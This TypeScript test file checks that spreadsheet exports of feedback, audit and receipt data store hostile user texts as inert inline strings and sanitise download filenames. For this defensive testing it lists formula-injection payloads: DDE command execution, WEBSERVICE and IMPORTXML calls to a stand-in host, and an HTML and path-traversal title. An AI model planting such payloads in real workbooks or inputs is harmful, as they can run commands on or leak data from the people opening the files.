import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { auditContract } from '@zhikao/domain/platform/audit/audit.contract.ts'
import { messageContract } from '@zhikao/domain/publishing/message/message.contract.ts'
import { newsContract } from '@zhikao/domain/publishing/news/news.contract.ts'
import { HOSTILE_HTML } from '@zhikao/domain/test/hostileHtml.ts'
import { buildOperator } from '../platform/operator/operator.factory.ts'
import { buildMessage } from '../publishing/message/message.factory.ts'
import { buildNews } from '../publishing/news/news.factory.ts'
import { writeAudit } from '../record/audit.ts'
import { testApp } from './app.ts'
import type { TestApp } from './app.ts'
import type { Client } from './client.ts'
import { rowsOf } from './jobs.ts'
import { decodedText } from './proof/answerText.ts'

/** What a spreadsheet program would calculate or load. */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '=HYPERLINK("https://away.example/x","打开")',
  '=WEBSERVICE("https://away.example/x")',
  "=cmd|' /C calc'!A0",
  '+cmd|" /C calc"!A0',
  '=IMPORTXML(CONCAT("https://away.example/",A1),"//a")',
]
// The database holds no such character in a text.
const TEXTS = [...HOSTILE_HTML, ...FORMULAS].filter((text) => !text.includes('\u0000'))
/** No shorter and no longer than the database takes it; the fragment comes first. */
const fit = (text: string, least: number, most: number) => text.padEnd(least, '。').slice(0, most)

let t: TestApp
let center: Client
beforeAll(async () => {
  t = await testApp()
  center = await t.as('center')
})
afterAll(() => t.close())

/** What in a written workbook is no plain text: formulas, links, objects, and parts that lead out of the file. */
async function activePartsOf(answer: { raw: Buffer; headers: Record<string, unknown> }): Promise<string[]> {
  const xml = await decodedText({ raw: answer.raw, headers: {} })
  const active =
    /<(?:\w+:)?(?:f|hyperlink|hyperlinks|drawing|legacyDrawing|oleObject|ddeLink|externalReference)\b|TargetMode="External"/g
  const cells = [...xml.matchAll(/<c r="[A-Z]+\d+"[^>]*>/g)].map(([cell]) => cell)
  expect(cells.length).toBeGreaterThan(TEXTS.length)
  return [...(xml.match(active) ?? []), ...cells.filter((cell) => !cell.includes('t="inlineStr"'))]
}

/** The cells of a column, without the lines of title and mark. */
async function columnOf(raw: Buffer, title: string): Promise<string[]> {
  const rows = await rowsOf(raw)
  const head = rows.findIndex((row) => row.includes(title))
  const at = rows[head]?.indexOf(title) ?? -1
  expect([title, at]).not.toEqual([title, -1])
  return rows.slice(head + 1).map((row) => row[at] ?? '')
}
const sorted = (texts: readonly string[]) => [...texts].toSorted((one, other) => (one < other ? -1 : 1))

it('there are 250 texts and more', () => {
  expect(TEXTS.length).toBeGreaterThan(250)
})

describe('hostile texts leave in workbooks as plain text, each as it was stored (issue 32, acceptance 3; reliability.md §2)', () => {
  it('feedback: title, content, contact and answer', async () => {
    const all = TEXTS.join('\n')
    const blocks = Array.from({ length: Math.ceil(all.length / 2000) }, (_, at) => fit(all.slice(at * 2000), 10, 2000))
    for (const [at, text] of [...TEXTS, ...blocks].entries())
      await buildMessage(t.db, {
        status: 'BACK',
        title: fit(text, 4, 60),
        content: fit(text, 10, 2000),
        contact_name: fit(text, 1, 30),
        reply: fit(text, 1, 1000),
        contact_mobile: `139${String(at).padStart(8, '0')}`,
      })
    const answer = await center.call(messageContract.export, { body: {} })
    expect(await activePartsOf(answer)).toEqual([])
    expect(sorted(await columnOf(answer.raw, '内容'))).toEqual(
      sorted([...TEXTS, ...blocks].map((text) => fit(text, 10, 2000))),
    )
  })

  it('the audit trail: titles of news', async () => {
    for (const text of TEXTS) {
      const { sn } = await buildNews(t.db, { title: fit(text, 1, 100) })
      await writeAudit(t.db, null, { action: 'news.publish', target: { type: 'news', sn } })
    }
    const system = await t.as('system')
    const answer = await system.call(auditContract.export, { body: { action: 'news.publish' } })
    expect(await activePartsOf(answer)).toEqual([])
    expect(sorted(await columnOf(answer.raw, '对象'))).toEqual(sorted(TEXTS.map((text) => fit(text, 1, 100))))
  })

  it('who has confirmed: names of those who are asked, and the title in the name of the file', async () => {
    for (const text of TEXTS) await buildOperator(t.db, { role: 'teacher', name: fit(text, 1, 100) })
    const { sn } = await buildNews(t.db, {
      scope: ['teacher'],
      need_receipt: true,
      title: `"><img src=x>\r\n/../${'名'.repeat(60)}`,
    })
    const answer = await center.call(newsContract.exportReceipts, { params: { id: sn }, body: {} })
    expect(await activePartsOf(answer)).toEqual([])
    const names = new Set(await columnOf(answer.raw, '院校或考评员'))
    expect(TEXTS.map((text) => fit(text, 1, 100)).filter((name) => !names.has(name))).toEqual([])
    expect(answer.headers['content-disposition']).toMatch(
      /^attachment; filename="[\w.-]+"; filename\*=UTF-8''[\w.%~-]+$/,
    )
  })
})
